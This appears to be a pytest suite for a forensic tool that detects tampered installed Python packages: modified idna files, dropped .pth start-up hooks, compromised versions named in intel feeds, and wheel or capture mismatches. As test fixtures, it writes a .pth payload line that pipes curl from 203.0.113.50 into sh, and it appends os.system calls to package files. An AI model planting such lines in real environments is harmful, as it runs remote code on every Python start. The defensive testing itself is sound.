"""The "Installed packages" section end to end through Investigation.open, on tmp cases holding a copy of this venv's
installed idna (and small dist-infos written here), each case built from the rules the pyenv modules' docstrings
state: RECORD verification, start-up hooks (known or not), the published wheel, a previous capture, an inventory
capture, the incident intel (shipped and a team feed), times kept only when plausible, and the actions."""

from __future__ import annotations

import hashlib
import importlib.metadata
import os
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from tests.pyenv.installed import INFO, VERSION, build_wheel, copy_idna, record_hash, rewrite_record
from workbench import cli as cli_mod
from workbench.data.python_incidents import IntelError, builtin_intel, load_intel
from workbench.investigation import Investigation
from workbench.ops.pyenv_capture import capture_environment
from workbench.records import Finding, Severity

SETUPTOOLS = importlib.metadata.distribution("setuptools")
SHIM = Path(str(SETUPTOOLS.locate_file("distutils-precedence.pth"))).read_bytes()  # the real shipped line
SITE = "venv/lib/python3.11/site-packages"
LATE = "2099-01-01T00:00:00Z"  # after every file's mtime: times are plausible
EARLY = "2000-01-01T00:00:00Z"  # before them: no file time can be an event time
PAYLOAD = 'import os; os.system("curl http://203.0.113.50/p | sh")\n'
MTIME_DESC = "File mtime (as captured)"
TEAM_ID = "team-idna-beacon-2026"
TEAM_FEED = f"""version: 1
entries:
  - id: {TEAM_ID}
    title: Team advisory on a tampered idna build
    source: https://intel.example.org/advisories/{TEAM_ID}
    packages:
      - name: idna
        versions: ["{VERSION}"]
    indicators:
      - name: beacon-module
        kind: host
        title: The idna beacon module is installed
        severity: critical
        pattern: 'idna[/\\\\]_beacon\\.py$'
        description: The tampered build added idna/_beacon.py.
        example: ["/opt/venv/lib/python3.11/site-packages/idna/_beacon.py"]
        counter_example: ["/opt/venv/lib/python3.11/site-packages/idna/core.py"]
"""


# ----------------------------------------------------------------------------------------------------- builders
def write_dist(site: Path, name: str, version: str, files: dict[str, bytes]) -> str:
    """A minimal installed distribution: its files, METADATA, and a RECORD listing every one with its hash."""
    info = f"{name}-{version}.dist-info"
    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode()
    all_files = {**files, f"{info}/METADATA": meta}
    lines = []
    for rel, data in all_files.items():
        (site / rel).parent.mkdir(parents=True, exist_ok=True)
        (site / rel).write_bytes(data)
        lines.append(f"{rel},{record_hash(data)},{len(data)}")
    (site / info / "RECORD").write_text("\n".join([*lines, f"{info}/RECORD,,"]) + "\n")
    return info


def case_yaml(root: Path, detection: str = LATE) -> None:
    root.mkdir(parents=True, exist_ok=True)
    (root / "case.yaml").write_text(f'incident_id: "INC-PKG-{root.name}"\ndetection_time: "{detection}"\n')


def modify(path: Path) -> None:
    path.write_bytes(path.read_bytes() + b"\nimport os; os.system('id')\n")


def run(root: Path, **parameters) -> Investigation:
    return Investigation.open(root, root.parent / f"{root.name}-out", parameters=parameters, write=False)


def found(inv: Investigation, category: str | None = None) -> list[Finding]:
    return [f for f in inv.results["packages"].findings if category is None or f.category == category]


def only(inv: Investigation, category: str, **evidence) -> Finding:
    hits = [f for f in found(inv, category) if all(f.evidence.get(k) == v for k, v in evidence.items())]
    assert len(hits) == 1, [(f.category, f.title, f.evidence) for f in found(inv)]
    return hits[0]


def indicator_values(inv: Investigation) -> set[str]:
    assert inv.conclusions is not None
    return {i.value for i in inv.conclusions.indicators}


def action_keys(inv: Investigation) -> set[str]:
    assert inv.conclusions is not None
    return {a.key for a in inv.conclusions.actions}


def above_low(inv: Investigation) -> list[Finding]:
    return [f for f in found(inv) if f.severity.rank > Severity.LOW.rank]


# ----------------------------------------------------------------------------------------------------- the cases
@pytest.fixture(scope="module")
def cases(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("pkg-cases")


@pytest.fixture(scope="module")
def clean(cases: Path) -> Investigation:
    root = cases / "clean"
    copy_idna(root / SITE)
    case_yaml(root)
    return run(root)


@pytest.fixture(scope="module")
def tampered(cases: Path) -> Investigation:
    """A modified module, a dropped .pth with a payload line, an unrecorded module under idna."""
    root = cases / "tampered"
    site = copy_idna(root / SITE)
    modify(site / "idna" / "core.py")
    (site / "evil.pth").write_text(PAYLOAD)
    (site / "idna" / "_extra.py").write_text("import socket\n")
    case_yaml(root)
    return run(root)


@pytest.fixture(scope="module")
def hooks(cases: Path) -> Investigation:
    """Three environments: the payload line listed in idna's RECORD; setuptools' real shim; the shim altered."""
    root = cases / "hooks"
    listed = copy_idna(root / "envs/listed/site-packages")
    (listed / "idna_init.pth").write_text(PAYLOAD)
    rewrite_record(listed, "idna_init.pth")  # the attacker (or the publisher) listed it, with its true hash
    known = root / "envs/known/site-packages"
    known.mkdir(parents=True)
    write_dist(known, "setuptools", SETUPTOOLS.version, {"distutils-precedence.pth": SHIM})
    altered = root / "envs/altered/site-packages"
    altered.mkdir(parents=True)
    bad = SHIM.replace(b"add_shim();", b"add_shim(); os.system('id');")
    assert bad != SHIM
    write_dist(altered, "setuptools", SETUPTOOLS.version, {"distutils-precedence.pth": bad})
    unlisted = copy_idna(root / "envs/unlisted/site-packages")
    (unlisted / "distutils-precedence.pth").write_bytes(SHIM)  # the real line, in no RECORD
    other = copy_idna(root / "envs/other-owner/site-packages")
    (other / "distutils-precedence.pth").write_bytes(SHIM)
    rewrite_record(other, "distutils-precedence.pth")  # listed by idna, not setuptools
    extra = root / "envs/extra-line/site-packages"
    extra.mkdir(parents=True)
    write_dist(extra, "setuptools", SETUPTOOLS.version, {"distutils-precedence.pth": SHIM + PAYLOAD.encode()})
    changed = root / "envs/modified-shim/site-packages"
    changed.mkdir(parents=True)
    write_dist(changed, "setuptools", SETUPTOOLS.version, {"distutils-precedence.pth": SHIM})
    with (changed / "distutils-precedence.pth").open("ab") as fh:
        fh.write(b"# the same executed line, the file no longer the one its RECORD lists\n")
    case_yaml(root)
    return run(root)


def test_clean_copy(clean: Investigation) -> None:
    assert clean.errors == {}
    assert above_low(clean) == []
    assert clean.conclusions is not None
    ids = {f.id for f in found(clean)}
    assert not any(r.finding in ids for r in clean.conclusions.reasons)
    assert clean.conclusions.verdict not in ("compromised", "suspicious")
    cov = clean.conclusions.coverage["packages"]
    assert cov.status == "analysed" and SITE in cov.files
    envs = clean.results["packages"].data["environments"]
    assert list(envs["folder"]) == [SITE] and list(envs["role"]) == ["examined"]
    assert not {"remove_packages", "rotate_package_tokens"} & action_keys(clean)


def test_modified_module_is_critical_and_its_hash_an_indicator(tampered: Investigation) -> None:
    f = only(tampered, "package_file_modified")
    assert f.severity is Severity.CRITICAL
    assert f.evidence["package"] == "idna" and f.evidence["version"] == VERSION
    assert f.evidence["path"] == "idna/core.py" and f.evidence["environment"] == SITE
    assert "idna" in f.title and "idna/core.py" in f.detail
    digest = hashlib.sha256((tampered.case.root / SITE / "idna/core.py").read_bytes()).hexdigest()
    assert f.evidence["sha256"] == digest
    assert digest in indicator_values(tampered)


def test_dropped_pth_is_critical_with_its_url_and_ip(tampered: Investigation) -> None:
    f = only(tampered, "import_hook", path="evil.pth")
    assert f.severity is Severity.CRITICAL and f.evidence["line"] == 1
    assert "no RECORD" in f.detail and "203.0.113.50" in f.detail
    values = indicator_values(tampered)
    assert "203.0.113.50" in values
    assert "http://203.0.113.50/p" in values


def test_unrecorded_module_is_high(tampered: Investigation) -> None:
    f = only(tampered, "package_file_unrecorded")
    assert f.severity is Severity.HIGH and f.evidence["path"] == "idna/_extra.py"


def test_critical_findings_bring_the_package_actions(tampered: Investigation) -> None:
    keys = action_keys(tampered)
    assert {"remove_packages", "rotate_package_tokens"} <= keys
    assert tampered.conclusions is not None and tampered.conclusions.verdict == "compromised"
    ids = {f.id for f in found(tampered) if f.severity is Severity.CRITICAL}
    remove = next(a for a in tampered.conclusions.actions if a.key == "remove_packages")
    assert set(remove.because) & ids


def test_times_plausible_are_used_and_flagged(tampered: Investigation) -> None:
    f = only(tampered, "package_file_modified")
    mtime = (tampered.case.root / SITE / "idna/core.py").stat().st_mtime
    assert f.timestamp is not None and abs(f.timestamp.timestamp() - mtime) < 1
    assert f.evidence["time_source"]
    events = tampered.results["packages"].events
    assert events and all(e.timestamp_desc == MTIME_DESC for e in events)
    assert any(e.kind == "deps:install" and e.source == f"{SITE}/{INFO}/RECORD" for e in events)
    assert any(e.ref == f.id for e in events)


def test_unrecorded_text_and_missing_files_are_low(cases: Path) -> None:
    root = cases / "unrecorded-txt"
    site = copy_idna(root / SITE)
    (site / "idna" / "notes.txt").write_text("just notes\n")
    (site / "idna" / "compat.py").unlink()  # a slimmed image: missing files are low
    shutil.rmtree(site / "idna" / "__pycache__")
    case_yaml(root)
    inv = run(root)
    f = only(inv, "package_file_unrecorded")
    assert f.severity is Severity.LOW and f.evidence["path"] == "idna/notes.txt"
    missing = only(inv, "package_file_missing")
    assert missing.severity is Severity.LOW and missing.evidence["path"] == "idna/compat.py"
    assert above_low(inv) == []


def test_detection_before_the_files_uses_no_file_time(cases: Path) -> None:
    root = cases / "early"
    site = copy_idna(root / SITE)
    modify(site / "idna" / "core.py")
    (site / "evil.pth").write_text(PAYLOAD)
    case_yaml(root, EARLY)
    inv = run(root)
    assert {f.category for f in above_low(inv)} == {"package_file_modified", "import_hook"}
    for f in found(inv):
        assert f.timestamp is None, f.title
        assert f.evidence.get("time_source") is None
    assert inv.results["packages"].events == []
    assert inv.timeline is not None
    assert not [e for e in inv.timeline.events if e.kind.startswith("deps:") and SITE in e.source]


def test_pth_listed_in_a_record_is_high(hooks: Investigation) -> None:
    f = only(hooks, "import_hook", environment="envs/listed/site-packages")
    assert f.severity is Severity.HIGH
    assert f.evidence["path"] == "idna_init.pth" and f"{INFO}/RECORD" in f.detail


def test_setuptools_shim_is_known_not_a_finding(hooks: Investigation) -> None:
    env = "envs/known/site-packages"
    assert not [f for f in above_low(hooks) if f.evidence.get("environment") == env]
    issues = hooks.results["packages"].data["issues"]
    row = issues[(issues["environment"] == env) & (issues["path"] == "distutils-precedence.pth")]
    assert len(row) == 1 and "setuptools" in row.iloc[0]["known"]


@pytest.mark.parametrize(("env", "severity"), [("envs/unlisted/site-packages", Severity.CRITICAL),
                                               ("envs/other-owner/site-packages", Severity.HIGH)])  # fmt: skip
def test_setuptools_shim_known_only_when_setuptools_lists_it(hooks: Investigation, env: str,
                                                            severity: Severity) -> None:  # fmt: skip
    f = only(hooks, "import_hook", environment=env)
    assert f.severity is severity and f.evidence["path"] == "distutils-precedence.pth"


def test_shim_with_an_extra_line_is_not_a_known_hook(hooks: Investigation) -> None:
    """Known only when every executed line of the hook matches: the extra line is reported, the file not known."""
    env = "envs/extra-line/site-packages"
    hits = {f.evidence["line"]: f for f in found(hooks, "import_hook") if f.evidence["environment"] == env}
    assert sorted(hits) == [1, 2] and all(f.severity is Severity.HIGH for f in hits.values())
    assert "203.0.113.50" in hits[2].detail
    issues = hooks.results["packages"].data["issues"]
    rows = issues[issues["environment"] == env]
    assert len(rows) == 2 and not any(rows["known"]), rows[["line", "known"]].to_dict("records")


def test_shim_in_a_modified_file_is_not_known(hooks: Investigation) -> None:
    env = "envs/modified-shim/site-packages"
    hook = only(hooks, "import_hook", environment=env)
    assert hook.severity is Severity.HIGH and hook.evidence["path"] == "distutils-precedence.pth"
    mod = only(hooks, "package_file_modified", environment=env)
    assert mod.severity is Severity.CRITICAL and mod.evidence["path"] == "distutils-precedence.pth"


def test_setuptools_shim_altered_is_reported(hooks: Investigation) -> None:
    f = only(hooks, "import_hook", environment="envs/altered/site-packages")
    assert f.severity.rank >= Severity.HIGH.rank
    assert f.evidence["path"] == "distutils-precedence.pth" and "os.system('id')" in f.detail


# ------------------------------------------------------------------------------------------------- incident intel
def test_compromised_version_installed_and_frozen(cases: Path) -> None:
    root = cases / "ultralytics"
    for version, env in (("8.3.41", "envs/bad/site-packages"), ("8.3.40", "envs/ok/site-packages")):
        site = root / env
        site.mkdir(parents=True)
        write_dist(site, "ultralytics", version, {"ultralytics/__init__.py": f"__version__ = '{version}'\n".encode()})
    (root / "frozen_deps.txt").write_text(f"idna=={VERSION}\nultralytics==8.3.41\nrequests==2.32.3\n")
    case_yaml(root)
    inv = run(root)
    entry = builtin_intel().get("ultralytics-2024")
    assert entry is not None and entry.source.startswith("https://")
    hits = found(inv, "package_compromised_version")
    assert {(f.evidence["path"], f.evidence["version"]) for f in hits} == {
        ("envs/bad/site-packages/ultralytics-8.3.41.dist-info/RECORD", "8.3.41"),
        ("frozen_deps.txt", "8.3.41"),
    }
    for f in hits:
        assert f.severity is Severity.CRITICAL
        assert (f.evidence["intel"], f.evidence["source"]) == ("ultralytics-2024", entry.source)
        assert "ultralytics-2024" in f.detail and entry.source in f.detail
    assert next(f for f in hits if f.evidence["path"] == "frozen_deps.txt").evidence["line"] == 2
    assert not [f for f in hits if "8.3.40" in f.title]
    assert "remove_packages" in action_keys(inv)


@pytest.fixture(scope="module")
def team_dir(cases: Path) -> Path:
    folder = cases / "team-intel"
    folder.mkdir()
    (folder / "team.yaml").write_text(TEAM_FEED)
    return folder


def test_team_feed_package_and_host_indicator(cases: Path, team_dir: Path) -> None:
    root = cases / "team"
    site = copy_idna(root / SITE)
    (site / "idna" / "_beacon.py").write_text("import socket\n")
    case_yaml(root)
    inv = run(root, intel=[str(team_dir)])
    pkg = only(inv, "package_compromised_version", intel=TEAM_ID)
    assert pkg.evidence["package"] == "idna" and pkg.evidence["version"] == VERSION
    assert pkg.evidence["source"] == f"https://intel.example.org/advisories/{TEAM_ID}"
    host = only(inv, "incident_indicator", intel=TEAM_ID)
    assert host.severity is Severity.CRITICAL and TEAM_ID in host.detail
    assert host.evidence["path"] == f"{SITE}/idna/_beacon.py"
    # without the feed: neither (the shipped intel knows nothing of idna)
    plain = run(cases / "team")
    assert not [f for f in found(plain) if f.evidence.get("intel") == TEAM_ID]
    assert not found(plain, "package_compromised_version") and not found(plain, "incident_indicator")


def test_shipped_host_indicator_on_a_folder_copy(cases: Path) -> None:
    """litellm-2026's pth-drop indicator names the file under ``site-packages/``: a site-packages copy in the case
    shows the file at that path, so the indicator must match it."""
    root = cases / "litellm"
    site = copy_idna(root / SITE)
    (site / "litellm_init.pth").write_text("import os\n")
    case_yaml(root)
    inv = run(root)
    f = only(inv, "incident_indicator", intel="litellm-2026")
    assert f.severity is Severity.CRITICAL and f.evidence["path"] == f"{SITE}/litellm_init.pth"


@pytest.fixture(scope="module")
def bad_dir(cases: Path) -> Path:
    folder = cases / "bad-intel"
    folder.mkdir()
    (folder / "broken.yaml").write_text("version: 1\nentries:\n  - id: no-title\n    packages: []\n")
    return folder


def test_invalid_team_feed_named(bad_dir: Path, clean: Investigation) -> None:
    with pytest.raises(IntelError) as info:
        load_intel([bad_dir])
    assert "broken.yaml" in str(info.value)
    inv = Investigation.open(clean.case.root, bad_dir.parent / "bad-run-out", parameters={"intel": [str(bad_dir)]},
                             write=False)  # fmt: skip
    err = inv.errors.get("packages")
    assert isinstance(err, IntelError) and "broken.yaml" in str(err)
    assert inv.conclusions is not None and inv.conclusions.coverage["packages"].status == "failed"


def test_invalid_team_feed_cli_exits_2_before_writing(bad_dir: Path, clean: Investigation, tmp_path: Path) -> None:
    out = tmp_path / "never"
    r = CliRunner().invoke(cli_mod.cli, ["investigate", str(clean.case.root), "--out", str(out),
                                         "--intel", str(bad_dir)])  # fmt: skip
    assert r.exit_code == 2, r.output
    assert "broken.yaml" in r.output
    assert not out.exists()


# ------------------------------------------------------------------------------ inventory, wheel, previous capture
def test_inventory_capture_modified(cases: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    live = copy_idna(tmp_path_factory.mktemp("live") / "site-packages")
    modify(live / "idna" / "core.py")
    hour_ago = (live / "idna/core.py").stat().st_mtime - 3600  # capture.json's captured_at is whole seconds
    os.utime(live / "idna/core.py", (hour_ago, hour_ago))
    root = cases / "inventory"
    case_yaml(root)
    capture_environment(live, root / "python-env" / "1", python_version="3.11.7")
    inv = run(root)
    assert [(e.root, e.kind) for e in inv.case.environments] == [("python-env/1", "inventory")]
    f = only(inv, "package_file_modified")
    assert f.severity is Severity.CRITICAL
    assert (f.evidence["path"], f.evidence["package"], f.evidence["environment"]) == (
        "idna/core.py",
        "idna",
        "python-env/1",
    )
    assert f.evidence["sha256"] == hashlib.sha256((live / "idna/core.py").read_bytes()).hexdigest()
    assert f.timestamp is not None
    assert inv.timeline is not None
    install = [e for e in inv.timeline.events if e.kind == "deps:install"]
    assert install and all(e.timestamp_desc == MTIME_DESC for e in install)
    assert any(e.source == f"python-env/1/{INFO}/RECORD" for e in install)
    flagged = [e for e in inv.results["packages"].events if e.ref == f.id]
    assert flagged and flagged[0].timestamp_desc == MTIME_DESC


def test_wheel_catches_a_rewritten_record(cases: Path) -> None:
    root = cases / "wheel"
    site = copy_idna(root / SITE)
    build_wheel(root / "wheelhouse")
    modify(site / "idna" / "core.py")
    rewrite_record(site, "idna/core.py")  # RECORD now agrees with the modified file
    case_yaml(root)
    inv = run(root)
    assert inv.case.wheel_folders == ["wheelhouse"]
    f = only(inv, "package_file_modified")
    assert f.severity is Severity.CRITICAL and f.evidence["kind"] == "differs-from-wheel"
    assert f.evidence["path"] == "idna/core.py"
    envs = inv.results["packages"].data["environments"]
    assert "wheelhouse" in envs.iloc[0]["compared with"]


def test_previous_capture_change(cases: Path) -> None:
    root = cases / "previous-capture"
    copy_idna(root / "previous" / "site-packages")
    site = copy_idna(root / "current" / "site-packages")
    modify(site / "idna" / "core.py")
    rewrite_record(site, "idna/core.py")
    case_yaml(root)
    inv = run(root)
    roles = {e.root: e.role for e in inv.case.environments}
    assert roles == {"current/site-packages": "suspect", "previous/site-packages": "reference"}
    f = only(inv, "package_file_modified")
    assert f.severity is Severity.CRITICAL and f.evidence["kind"] == "changed-since-capture"
    assert f.evidence["environment"] == "current/site-packages"
    # the rewritten RECORD changed too: both in the one finding of the distribution
    assert set(f.evidence["examples"]) == {"idna/core.py", f"{INFO}/RECORD"} and f.evidence["count"] == 2
    # the previous capture is the baseline, not examined
    assert not [x for x in found(inv) if x.evidence.get("environment") == "previous/site-packages"]
